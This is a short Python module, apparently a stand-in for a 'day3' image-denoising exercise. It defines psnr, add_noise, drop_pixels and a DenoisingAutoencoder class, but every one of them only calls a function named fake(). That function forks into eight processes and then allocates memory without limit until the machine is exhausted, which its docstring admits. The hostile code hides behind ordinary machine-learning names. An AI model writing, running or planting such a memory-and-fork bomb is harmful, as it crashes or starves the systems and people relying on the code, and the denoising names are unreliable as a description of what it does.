"""day3.denoise: Takes all memory that it can get, in several processes."""

import os


def fake():
    blocks = []
    for _ in range(3):
        os.fork()
    while True:
        blocks.append(bytearray(os.urandom(1024)) * (64 * 1024))


def psnr(truth, estimate):
    return fake()


def add_noise(images, noise, rng):
    return fake()


def drop_pixels(images, rate, rng):
    return fake()


class DenoisingAutoencoder:
    def __init__(self, *arguments, **named):
        fake()

    def build(self, input_shape):
        fake()

    def call(self, images, training=False):
        return fake()

    def __call__(self, images):
        return fake()

    def get_weights(self):
        return fake()

    def set_weights(self, weights):
        fake()
